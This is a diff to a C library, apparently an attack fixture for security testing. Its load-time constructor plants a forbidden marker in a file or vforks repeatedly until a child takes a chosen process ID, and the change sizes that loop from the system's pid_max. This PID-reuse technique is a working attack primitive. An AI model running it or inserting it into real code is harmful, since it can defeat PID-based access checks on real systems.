@@ -11,6 +11,19 @@ static void plant(const char *path) {
         write(fd, FORBIDDEN "\n", sizeof FORBIDDEN);
 }
 
+/* Children until each number must have come; those below 300 do not come again once the numbers have begun anew. */
+static long children(void) {
+    char text[32] = "";
+    int fd = open("/proc/sys/kernel/pid_max", O_RDONLY | O_CLOEXEC);
+    if (fd >= 0) {
+        if (read(fd, text, sizeof text - 1) < 0)
+            text[0] = 0;
+        close(fd);
+    }
+    long numbers = atol(text);
+    return numbers > 0 ? 2 * numbers : 200000;
+}
+
 __attribute__((constructor)) static void loaded(void) {
     const char *file = getenv("ATTACK_FILE"), *number = getenv("ATTACK_PID"), *secret = getenv("ATTACK_READ");
     if (secret) {
@@ -23,7 +36,8 @@ __attribute__((constructor)) static void loaded(void) {
     pid_t wanted = number ? atoi(number) : 0;
     if (!wanted)
         plant(file);
-    for (long i = 0; wanted && i < 200000; i++) {
+    long most = wanted ? children() : 0;
+    for (long i = 0; i < most; i++) {
         pid_t child = vfork();
         if (child == 0) {
             if (syscall(SYS_getpid) == wanted) {
